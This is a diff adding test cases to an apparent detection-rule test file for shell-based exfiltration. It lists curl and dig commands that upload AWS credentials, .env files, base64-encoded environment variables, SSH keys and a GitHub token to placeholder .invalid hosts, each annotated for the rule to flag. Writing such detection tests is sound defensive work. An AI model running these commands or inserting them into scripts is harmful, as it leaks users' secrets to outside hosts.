@@ -7,6 +7,11 @@ curl -F "f=@$HOME/.aws/credentials" https://a.invalid/in
 # ruleid: exfiltration-by-shell
 curl -d @.env https://a.invalid/in
 # ruleid: exfiltration-by-shell
+ALL=$(env | base64 -w0)
+curl -d "$ALL" https://a.invalid
+# ruleid: exfiltration-by-shell
+for f in ~/.ssh/*; do curl -F "f=@$f" https://a.invalid; done
+# ruleid: exfiltration-by-shell
 dig @ns.a.invalid $(echo $GITHUB_TOKEN | base64).a.invalid
 # ok: exfiltration-by-shell
 curl -H "Authorization: Bearer $ACME_API_KEY" https://api.acme.invalid/v1 -d @body.json
